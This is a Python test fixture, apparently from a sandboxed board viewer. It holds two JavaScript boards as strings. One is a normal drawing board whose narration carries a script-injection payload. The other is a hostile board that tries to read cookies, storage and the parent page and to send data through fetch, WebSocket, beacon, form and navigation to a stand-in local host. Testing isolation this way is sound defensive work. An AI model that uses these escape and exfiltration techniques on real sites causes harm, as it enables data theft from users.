"""Boards that packages bring along: one that draws, and one that tries to get out of its frame."""

from __future__ import annotations

DRAWING = """\
export function parse(input, answer) {
  const stop = answer.trim() === "7" ? { text: "seven", at: 1 } : undefined;
  return { start: input, steps: [...answer.trim()], stop };
}
export function frames({ steps }) {
  return { count: steps.length, seek: (step) => ({ step, shown: steps.slice(0, step).join("") }) };
}
export function draw({ shown }, drawn) {
  const line = drawn ?? document.createElement("p");
  line.textContent = `so far: ${shown}`;
  return line;
}
export const say = ({ step, shown }) => `Step ${step}: ${shown || "nothing"}. </script><script>alert(1)</script>`;
"""

NOBODY = "127.0.0.1:9"
"""The host that the hostile board calls; a test that listens puts its own place there."""

HOSTILE = """\
const won = [];
async function attempt(name, act) {
  try {
    const value = await act();
    if (value !== "stopped") won.push(name);
  } catch { /* stopped, as it should be */ }
}
const HOST = "http://127.0.0.1:9/";
export function parse() { return { steps: [1, 2] }; }
export const frames = () => ({ count: 2, seek: (step) => ({ step }) });
export function draw({ step }) {
  if (step === 1) location.href = HOST + "leak";
  return document.createElement("p");
}
export const say = ({ step }) => (step === 2 ? `won: ${won.join()};` : "trying");
await attempt("cookie", () => document.cookie);
await attempt("storage", () => localStorage.length);
await attempt("parent DOM", () => parent.document.body.textContent);
await attempt("top address", () => { top.location.href = HOST; return "stopped"; });
await attempt("top name", () => parent.location.href);
await attempt("fetch", () => fetch(HOST));
await attempt("own site", () => fetch(location.origin === "null" ? "/api/account" : location.origin));
await attempt("websocket", () => new Promise((done, fail) => {
  const socket = new WebSocket(HOST.replace("http", "ws")); socket.onerror = fail; setTimeout(done, 300);
}));
await attempt("image", () => new Promise((done, fail) => {
  const image = new Image(); image.onload = done; image.onerror = fail;
  image.src = document.baseURI.replace(/\\/c\\/.*/, "/static/icon.svg");
}));
await attempt("script", () => new Promise((done, fail) => {
  const script = document.createElement("script"); script.src = "/static/jurado.js";
  script.onload = done; script.onerror = fail;
  document.head.append(script);
}));
await attempt("rtc", () => new RTCPeerConnection());
await attempt("rtc of a child", () => {
  const child = document.createElement("iframe"); document.body.append(child);
  return new child.contentWindow.RTCPeerConnection();
});
await attempt("window", () => open(HOST) ?? "stopped");
await attempt("form", () => {
  const form = document.createElement("form"); form.action = HOST; document.body.append(form); form.submit();
  return "stopped";
});
await attempt("worker", () => new Worker("/static/board/worker.js"));
await attempt("beacon", () => { navigator.sendBeacon(HOST, "x"); return "stopped"; });
"""
